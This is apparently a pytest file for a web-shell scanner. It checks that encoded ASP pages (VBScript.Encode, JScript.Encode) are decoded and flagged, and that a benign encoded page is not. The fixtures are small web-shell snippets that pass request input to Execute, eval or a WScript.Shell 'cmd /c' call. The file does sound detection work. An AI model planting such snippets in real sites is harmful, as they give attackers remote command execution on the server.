@pytest.mark.parametrize(("case", "ext", "page"), RECON_FOUND, ids=[c[0] for c in RECON_FOUND])
def test_fixed_recon_commands_are_named(case: str, ext: str, page: str) -> None:
    assert "recon-command" in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), RECON_QUIET, ids=[c[0] for c in RECON_QUIET])
def test_other_fixed_commands_and_texts_are_not_recon(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


# --- Script Encoder pages (VBScript.Encode / JScript.Encode): their decoded text is analysed -------------------
def _encoder() -> Any:
    import importlib.util
    from pathlib import Path

    path = Path(__file__).resolve().parents[1] / "formats" / "test_script_encoder.py"
    spec = importlib.util.spec_from_file_location("_script_encoder_test_helper", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.encode


@pytest.mark.parametrize(
    ("case", "head", "script", "tail", "sink"),
    [
        (
            "vbs-encode-directive",
            "<%@ LANGUAGE = VBScript.Encode %>\n<%",
            '\nExecute Request("c")\n',
            "%>",
            "eval",
        ),
        (
            "vbs-encode-script-block",
            '<script language="VBScript.Encode" runat="server">',
            '\nSet s = CreateObject("WScript.Shell")\ns.Run "cmd /c " & Request("c"), 0\n',
            "</script>",
            "shell-object",
        ),
        (
            "jscript-encode",
            "<%@ LANGUAGE = JScript.Encode %>\n<%",
            '\neval(Request("c") + "");\n',
            "%>",
            "eval",
        ),
    ],
)
def test_encoded_pages_are_analysed_decoded(case: str, head: str, script: str, tail: str, sink: str) -> None:
    page = head + _encoder()(script) + tail
    assert "Execute" not in page and "eval" not in page and "WScript" not in page
    assert sink in _sinks(page, ".asp")


def test_an_encoded_ordinary_page_stays_silent() -> None:
    page = (
        "<%@ LANGUAGE = VBScript.Encode %>\n<%"
        + _encoder()('\nResponse.Write "Licensed to: " & Now()\n')
        + "%>"
    )
    assert not _sinks(page, ".asp")
